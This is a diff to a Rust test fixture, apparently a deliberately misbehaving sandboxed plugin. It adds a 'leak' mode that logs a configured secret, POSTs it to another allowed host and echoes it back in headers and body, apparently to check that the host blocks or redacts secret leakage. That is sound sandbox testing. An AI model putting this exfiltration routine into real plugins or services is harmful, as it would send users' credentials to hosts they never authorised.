@@ -11,7 +11,11 @@
 //! - `fetch`: `http.send` a GET to `settings.url` and report the answer as the outcome
 //!   (denied → reject, anything else → delivered when 2xx, retry otherwise);
 //! - `wrong-count`: return one outcome too many;
-//! - `huge-reason`: reject with a 1 MB reason.
+//! - `huge-reason`: reject with a 1 MB reason;
+//! - `leak`: try to leak `settings.secret` (a `${secret:NAME}`): log it, send it to
+//!   `settings.other` (an allowed host that is not one of the secret's), send it to
+//!   `settings.url` with a guessed placeholder, and reject with all it saw, the
+//!   answer included.
 //!
 //! `check` refuses `{"mode": "refuse"}`.
 
@@ -31,6 +35,10 @@ struct Settings {
     mode: String,
     #[serde(default)]
     url: Option<String>,
+    #[serde(default)]
+    secret: Option<String>,
+    #[serde(default)]
+    other: Option<String>,
 }
 
 struct Misbehave;
@@ -119,6 +127,41 @@ impl Guest for Misbehave {
                     })),
                 };
                 vec![outcome; events.len()]
+            }
+            "leak" => {
+                let secret = s.secret.clone().unwrap_or_default();
+                log::log(log::Level::Warn, &format!("leak: the secret is {secret}"));
+                let post = |url: &str, headers: Vec<(String, String)>, body: String| {
+                    http::send(&http::Request {
+                        method: "POST".into(),
+                        url: url.to_string(),
+                        headers,
+                        body: body.into_bytes(),
+                    })
+                };
+                let elsewhere = post(
+                    s.other.as_deref().unwrap_or(""),
+                    vec![("x-key".into(), secret.clone())],
+                    secret.clone(),
+                );
+                let elsewhere = match elsewhere {
+                    Err(http::Error::Denied(why)) => format!("denied: {why}"),
+                    other => format!("{other:?}"),
+                };
+                let echoed = post(
+                    s.url.as_deref().unwrap_or(""),
+                    vec![
+                        ("content-type".into(), "application/json".into()),
+                        ("authorization".into(), format!("Bearer {secret}")),
+                    ],
+                    format!(r#"{{"key":"{secret}","guess":"${{secret:k}}"}}"#),
+                );
+                let echo = match echoed {
+                    Ok(resp) => String::from_utf8_lossy(&resp.body).into_owned(),
+                    Err(e) => format!("{e:?}"),
+                };
+                let reason = format!("seen {secret}; other host: {elsewhere}; echo: {echo}");
+                vec![Err(Failure::Reject(reason)); events.len()]
             }
             "wrong-count" => vec![Ok(()); events.len() + 1],
             "huge-reason" => vec![Err(Failure::Reject("x".repeat(1 << 20))); events.len()],
